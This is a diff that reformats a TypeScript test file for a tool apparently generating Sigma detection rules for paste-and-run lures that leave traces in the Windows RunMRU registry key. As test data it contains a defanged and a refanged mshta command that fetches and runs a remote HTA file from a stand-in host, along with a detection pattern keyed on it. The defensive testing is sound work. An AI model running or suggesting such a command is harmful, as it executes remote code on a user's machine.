@@ -6,37 +6,59 @@ import { pastedCommand } from './run-dialog';
 // the pasted text. Synthetic example; no fixture article.
 const article = { title: 'Synthetic lure note', url: 'https://notes.example.org/lure', date: '2026-11-26' };
 const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };
-const runMru = { ...item, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU', hive: 'HKCU' as const, path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' };
+const runMru = {
+  ...item,
+  value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU',
+  hive: 'HKCU' as const,
+  path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU',
+};
 const pasted = 'mshta hxxps://quill-verify[.]example/gate.hta # I am human - ID 7731';
 const other = 'whoami /groups';
 
 type Rule = { title: string; detection: Record<string, unknown>; tags: string[]; level: string };
 
 function registryRule(input: Partial<BuiltinSigmaInput>) {
-  const drafts = generateBuiltinRules({ article, platform: 'windows', registryKeys: [runMru], cmdlines: [other, pasted].map((value) => ({ ...item, value, executable: value.split(' ')[0] ?? value })), ...input });
+  const drafts = generateBuiltinRules({
+    article,
+    platform: 'windows',
+    registryKeys: [runMru],
+    cmdlines: [other, pasted].map((value) => ({ ...item, value, executable: value.split(' ')[0] ?? value })),
+    ...input,
+  });
   return drafts.find((draft) => draft.telemetryClass === 'registry_set');
 }
 
 describe('the Run dialog history (RunMRU) of a paste-and-run lure', () => {
   it('finds the command explorer.exe started, refanged as it was typed', () => {
-    expect(pastedCommand([other, pasted], [{ parent: 'explorer.exe', child: 'mshta.exe' }])).toBe('mshta https://quill-verify.example/gate.hta # I am human - ID 7731');
+    expect(pastedCommand([other, pasted], [{ parent: 'explorer.exe', child: 'mshta.exe' }])).toBe(
+      'mshta https://quill-verify.example/gate.hta # I am human - ID 7731',
+    );
     expect(pastedCommand([other, pasted], [{ parent: 'cmd.exe', child: 'mshta.exe' }])).toBeNull();
   });
 
   it('requires the pasted program and its host in the entry, and the rule fires on the lure', () => {
-    const draft = registryRule({ processPairs: [{ ...item, value: 'explorer.exe -> mshta.exe', parent: 'explorer.exe', child: 'mshta.exe' }] });
+    const draft = registryRule({
+      processPairs: [{ ...item, value: 'explorer.exe -> mshta.exe', parent: 'explorer.exe', child: 'mshta.exe' }],
+    });
     const rule = (draft?.rule ?? {}) as unknown as Rule;
     expect(rule.detection['selection']).toEqual({
       'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU',
       'Details|contains|all': ['mshta', 'quill-verify.example'],
     });
-    expect(rule).toMatchObject({ title: 'Run Dialog Entry Running Mshta (Paste And Run Lure)', tags: ['attack.execution', 'attack.t1204.004'], level: 'high' });
+    expect(rule).toMatchObject({
+      title: 'Run Dialog Entry Running Mshta (Paste And Run Lure)',
+      tags: ['attack.execution', 'attack.t1204.004'],
+      level: 'high',
+    });
     const observables = [
       { type: 'registry_key', value: runMru.value },
       { type: 'cmdline', value: pasted },
       { type: 'process_lineage', value: 'explorer.exe -> mshta.exe', attributes: { parent: 'explorer.exe', child: 'mshta.exe' } },
     ];
-    expect(selfTestRule(draft?.rule ?? '', observables)).toMatchObject({ fires: true, fired_on: ['registry_key: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU'] });
+    expect(selfTestRule(draft?.rule ?? '', observables)).toMatchObject({
+      fires: true,
+      fired_on: ['registry_key: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU'],
+    });
   });
 
   it('writes no rule on the key alone when nothing shows what was pasted: every use of the dialog writes it', () => {
